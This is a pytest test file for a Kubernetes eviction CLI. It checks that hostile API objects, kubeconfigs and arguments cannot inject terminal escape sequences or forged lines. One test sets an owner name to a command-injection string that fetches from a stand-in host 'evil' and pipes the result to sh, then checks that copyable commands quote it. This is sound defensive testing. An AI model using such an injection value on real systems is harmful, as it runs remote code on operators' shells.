"""Text that others wrote never steers the terminal, nor the shell into which a command is copied."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from support.hostile.api import ATTACK, HostileApi, hostile_api, kubeconfig
from support.processes.screens import OWN_SEQUENCE, Shown, run
from vacate.cli.main import COMMANDS
from views.explanation_inputs import EXPLANATION_INPUTS

pytestmark = [pytest.mark.process, pytest.mark.thorough(beyond=1)]

SILENCE, BLOCKED, DAEMON = "handed over after silence", "blocked", "daemon set"
PLACES = {"pipe": None, "terminal": (80, 24)}
# Each case is a process of its own: a quick run shows every command once, where escape sequences do harm.
places = pytest.mark.parametrize("place", [pytest.param("pipe", marks=pytest.mark.thorough), "terminal"])
LOOKS = {
    "status": ("status", "-A"),
    "status wide": ("status", "-A", "-o", "wide"),
    "status names": ("status", "-A", "-o", "name"),
    "status json": ("status", "-A", "-o", "json"),
    "status yaml": ("status", "-A", "-o", "yaml"),
    "explain": ("explain", "web-1"),
    "explain json": ("explain", "web-1", "-o", "json"),
    "explain yaml": ("explain", "web-1", "-o", "yaml"),
    "evict": ("evict", "web-1", "--timeout", "1s"),
    "evict dry run": ("evict", "web-1", "--dry-run"),
    "evict json": ("evict", "web-1", "-o", "json"),
    "cancel": ("cancel", "web-1", "--requester", "drain.example.com"),
    "cancel another's": ("cancel", "web-1", "--requester", "other.example.com"),
    "cancel everyone's": ("cancel", "web-1", "--override"),
    "cancel by labels": ("cancel", "-l", "app=web", "--override"),
    "retry": ("retry", "web-1"),
    "skip": ("skip", "web-1", "backup.example.com"),
    "delete": ("delete", "pod", "web-1"),
    "delete with a reason": ("delete", "pod", "web-1", "--reason", "x", "--timeout", "1s"),
    "delete by force": ("delete", "pod", "web-1", "--force", "--confirm"),
    "interceptors": ("interceptors",),
    "interceptors json": ("interceptors", "-o", "json"),
    "version": ("version",),
}
EVERYWHERE = {
    **LOOKS,
    "follow": ("status", "-w"),
    "status of nodes": ("status", "--nodes"),
    "follow json": ("status", "-w", "-o", "json"),
    "install": ("install", "--image", "x:1"),
    "uninstall": ("uninstall",),
    "certificates": ("certificates",),
    "node": ("node", "--name", "laptop", "--dir", "/nowhere/at/all"),
    "manager": ("manager", "--metrics-port", "0"),
}
EVERYWHERE |= {name: (name, "node-1") for name in ("drain", "plan", "uncordon") if name in COMMANDS}
EVERYWHERE |= {name: (name,) for name in ("deschedule", "check", "drains")}
EVERYWHERE["fence"] = ("fence", "node-1", "--agent", "/bin/false", "--options", "/dev/null")
EVERYWHERE["detach"] = ("detach", "disk", "--confirm")
TRY_AGAIN = {"manager", "certificates"}  # they end by a signal only
WITHOUT_ANOTHERS_TEXT = {"up", "demo", "completion", "web"}  # the last shows it in its pages only
REFUSED = "evict"  # shown refused in a quick run as well, with the objects of others
NAME_NO_PODS = {"version", "interceptors"}
LOGS_ONLY = {"webhook", "shutdown-agent", "hooks"}  # through the same formatter as the manager


def once_each(
    lines: Mapping[str, tuple[str, ...]], besides: Mapping[str, tuple[str, ...]] | None = None
) -> list[object]:
    """The names of all lines. Those that only vary the options of a command, and those of commands that a
    quick run has shown in another test already, are for thorough runs."""
    shown = {arguments[0] for arguments in (besides or {}).values()}
    first = {arguments[0]: name for name, arguments in reversed(list(lines.items()))}
    quick = {name for command, name in first.items() if command not in shown or command == REFUSED}
    return [pytest.param(name, marks=() if name in quick else pytest.mark.thorough) for name in lines]


@pytest.fixture(scope="module")
def api() -> Iterator[HostileApi]:
    with hostile_api() as running:
        yield running


def check(shown: Shown) -> None:
    """Nothing but our own styles and movements, and no line that somebody else has begun."""
    text = shown.plain
    drawn = "\r" if "\x1b[" in shown.text else ""  # live views go back to the beginning of a line
    odd = sorted({one for one in text if not one.isprintable() and one not in f"\n{drawn}"})
    assert not odd, (odd, text)
    assert "66;6H" not in "".join(OWN_SEQUENCE.findall(shown.text))
    assert not re.search("^FORGED", text, re.MULTILINE), text
    assert "Traceback" not in text, text


@pytest.mark.thorough(beyond=1)
@places
@pytest.mark.parametrize("command", once_each(LOOKS))
def test_hostile_objects(api: HostileApi, tmp_path: Path, command: str, place: str) -> None:
    api.refusing = False
    config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
    for state in (SILENCE, BLOCKED, DAEMON) if command in ("status", "explain") else (SILENCE,):
        sim = EXPLANATION_INPUTS[state]()
        api.serve(sim.pod, sim.request, sim.budgets, names="-A" in LOOKS[command])
        shown = run(*LOOKS[command], variables={"KUBECONFIG": str(config)}, terminal=PLACES[place])
        check(shown)
        assert "web-1" in shown.plain or command.split(maxsplit=1)[0] in ("version", "interceptors"), (
            shown.plain
        )


@pytest.mark.thorough
@places
def test_a_live_view_of_hostile_objects(api: HostileApi, tmp_path: Path, place: str) -> None:
    sim = EXPLANATION_INPUTS[SILENCE]()
    api.refusing = False
    api.serve(sim.pod, sim.request, sim.budgets, names=True)
    config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
    shown = run(
        "status", "-A", "-w",
        variables={"KUBECONFIG": str(config)}, terminal=PLACES[place], stop_when=lambda text: "web-1" in text,
    )  # fmt: skip
    check(shown)
    assert "web-1" in shown.plain


@pytest.mark.thorough(beyond=1)
@places
@pytest.mark.parametrize("command", once_each(EVERYWHERE, LOOKS))
def test_hostile_refusals(api: HostileApi, tmp_path: Path, command: str, place: str) -> None:
    api.refusing = True
    config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
    shown = run(
        *EVERYWHERE[command],
        variables={"KUBECONFIG": str(config)},
        terminal=PLACES[place],
        stop_when=(lambda text: "owned" in text) if command in TRY_AGAIN else None,
    )
    check(shown)
    assert "owned" in shown.plain


def test_no_command_is_left_out() -> None:
    tried = {arguments[0] for arguments in EVERYWHERE.values()}
    assert tried | WITHOUT_ANOTHERS_TEXT | LOGS_ONLY >= set(COMMANDS)


@pytest.mark.thorough
@places
def test_a_hostile_kubeconfig(tmp_path: Path, place: str) -> None:
    config = kubeconfig(tmp_path, f"ftp://{ATTACK}", ATTACK)
    for arguments in (("status",), ("status", "--context", f"y{ATTACK}"), ("status", "--kubeconfig", ATTACK)):
        shown = run(*arguments, variables={"KUBECONFIG": str(config)}, terminal=PLACES[place])
        check(shown)
        assert shown.code == 1


@pytest.mark.parametrize(
    "arguments", [(ATTACK,), ("status", f"--{ATTACK}"), ("evict", ATTACK), ("evict", "a", "-o", ATTACK)]
)
def test_hostile_arguments(arguments: tuple[str, ...]) -> None:
    shown = run(*arguments, variables={}, terminal=(80, 24))
    check(shown)
    assert shown.code == 2


def test_commands_to_be_copied_quote_what_others_chose(api: HostileApi, tmp_path: Path) -> None:
    sim = EXPLANATION_INPUTS[DAEMON]()
    api.refusing = False
    api.serve(sim.pod, sim.request, sim.budgets, names=False)
    assert sim.pod is not None
    pod = api.tiny.objects[("pods", "default", "web-1")]
    pod["metadata"]["ownerReferences"][0]["name"] = "x;curl${IFS}http://evil|sh"
    config = kubeconfig(tmp_path, f"http://127.0.0.1:{api.port}")
    shown = run("explain", "web-1", "-o", "json", variables={"KUBECONFIG": str(config)})
    commands = [one["command"] for one in json.loads(shown.text)["remedies"]]
    described = next(one for one in commands if "describe" in one)
    assert shlex.split(described)[2] == "daemonset/x;curl${IFS}http://evil|sh"
    assert not re.search(r"[;|$]", re.sub(r"'[^']*'", "", described))
